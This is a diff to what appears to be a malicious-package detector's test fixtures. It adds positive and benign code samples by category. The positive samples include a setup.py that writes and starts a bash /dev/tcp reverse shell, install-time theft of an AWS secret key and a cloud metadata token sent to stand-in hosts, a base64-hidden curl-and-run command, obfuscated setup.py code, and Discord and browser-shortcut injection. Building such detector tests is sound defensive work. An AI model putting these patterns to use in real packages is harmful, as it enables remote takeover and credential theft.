@@ -129,6 +129,16 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     "malicious-reverse-shell": {
         "positive": [
             {
+                # code carried in a string, written to the home directory and started (ctfpipshell 2023)
+                "setup.py": (
+                    "import os, subprocess\nfrom setuptools import setup\n"
+                    'CODE = """\nimport os\nos.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")\n"""\n'
+                    "with open(os.path.expanduser('~/r.py'), 'w') as f:\n    f.write(CODE)\n"
+                    "subprocess.Popen(['python3', os.path.expanduser('~/r.py')])\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {
                 "x/rs.py": (
                     "import os, socket, pty\n"
                     "def go():\n"
@@ -196,9 +206,35 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                     "    requests.post('https://c.example.invalid/r', json={'m': mnemonic})\n"
                 )
             },
+            {
+                # one credential variable sent from setup.py is a theft, not telemetry (issue 10)
+                "setup.py": (
+                    "import os\nfrom urllib.request import urlopen\nfrom setuptools import setup\n"
+                    "urlopen('https://x.example.invalid/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {
+                # the instance's cloud token, fetched and posted on (artifact-lab 2024)
+                "x/flag.py": (
+                    "import requests\n"
+                    "def send():\n"
+                    "    t = requests.get('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token')\n"
+                    "    requests.post('https://c.example.invalid/log', data={'t': t.text})\n"
+                )
+            },
         ],
         "benign": [
             {"x/cfg.py": "import os\nCONFIG = os.path.expanduser('~/.config/x/settings.toml')\n"},
+            {
+                # an SDK sending its own API key from the environment when called is its job
+                "x/sdk.py": (
+                    "import os, requests\n"
+                    "def complete(prompt):\n"
+                    "    key = os.environ['EXAMPLE_API_KEY']\n"
+                    "    return requests.post('https://api.example.invalid/v1', headers={'Authorization': key})\n"
+                )
+            },
             {
                 "index.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('package.json', 'utf8');\n"
             },
@@ -277,9 +313,48 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 + ";\nfunction _0x1f2e(_0x3a1b, _0x4c2d) { return _0x3a1b + _0x4c2d; }\n"
             },
             {"lib.js": "module.exports = 1;" + " " * 300 + "require('child_process').exec('id');\n"},
+            {
+                # setup.py strings spelled in character-code arithmetic (pypi_malregistry campaign, 13 samples)
+                "setup.py": (
+                    "import sys\nfrom setuptools import setup\n"
+                    "C = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4])\n"
+                    "P = ''.join(map(C, [(7 << 4) - 1, (3 << 5) + 5, (7 << 4) + 4]))\n"
+                    "A = ''.join(map(C, [(((3 << 3) + 1) << 2) + 1, (7 << 4) - 2]))\n"
+                    "B = ''.join(map(C, [(3 << 5) + 2, (7 << 4) - 3]))\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {
+                # a base64 literal that decodes to a command (helrmerter 2023)
+                "x/run.py": (
+                    "import base64, os\n"
+                    "def go():\n"
+                    "    os.system(base64.b64decode('"
+                    + __import__("base64")
+                    .b64encode(b"curl -s https://p.example.invalid/x -o x.py && pythonw x.py")
+                    .decode()
+                    + "').decode())\n"
+                )
+            },
+            {
+                "x/packed.py": (
+                    "import marshal, base64\nCODE = marshal.loads(base64.b64decode('" + "QUFB" * 30 + "'))\n"
+                )
+            },
         ],
         "benign": [
             {"x/plain.py": "import os\n\ndef name():\n    return getattr(os, 'name')\n"},
+            {
+                # base64 test vectors and images are data, not code
+                "x/vectors.py": (
+                    "import base64\n"
+                    "PNG = '" + __import__("base64").b64encode(bytes(range(256))).decode() + "'\n"
+                    "TEXT = '"
+                    + __import__("base64").b64encode(b"The quick brown fox jumps over the lazy dog.").decode()
+                    + "'\n"
+                    "LETTERS = ''.join(map(chr, range(97, 123)))\n"
+                )
+            },
             {"index.js": "const hex = 0x1f;\nmodule.exports = { hex };\n"},
         ],
     },
@@ -392,6 +467,43 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 )
             },
             {"scripts/clean.sh": "#!/bin/sh\nrm -rf ./build ~/.cache/x\ncd dist && rm -rf *\n"},
+        ],
+    },
+    "malicious-client-injection": {
+        "positive": [
+            {
+                # pypi_malregistry's clipboard-extension campaign (2023): shortcuts re-pointed with --load-extension
+                "setup.py": (
+                    "import os, win32com.client\n"
+                    "shell = win32com.client.Dispatch('WScript.Shell')\n"
+                    "for link in os.listdir(os.path.expanduser('~/Desktop')):\n"
+                    "    if link.endswith('.lnk'):\n"
+                    "        s = shell.CreateShortCut(link)\n"
+                    "        s.Arguments = '--load-extension=' + os.path.join(os.getenv('APPDATA'), 'Extension')\n"
+                    "        s.save()\n"
+                    "from setuptools import setup\nsetup(name='x')\n"
+                )
+            },
+            {
+                "x/inject.py": (
+                    "import os\n"
+                    "def inject(code):\n"
+                    "    core = os.path.join(os.getenv('LOCALAPPDATA'), 'Discord', 'modules', 'discord_desktop_core')\n"
+                    "    with open(os.path.join(core, 'index.js'), 'w') as f:\n"
+                    "        f.write(code)\n"
+                )
+            },
+        ],
+        "benign": [
+            {
+                # browser automation passes extensions on its own command line, never through the user's shortcuts
+                "x/browser.py": (
+                    "import subprocess\n"
+                    "def launch(chrome, ext):\n"
+                    "    return subprocess.Popen([chrome, '--load-extension=' + ext, '--headless'])\n"
+                )
+            },
+            {"x/docs.py": "HELP = 'Discord clients keep settings under discord/settings.json'\n"},
         ],
     },
     "malicious-silent-process": {
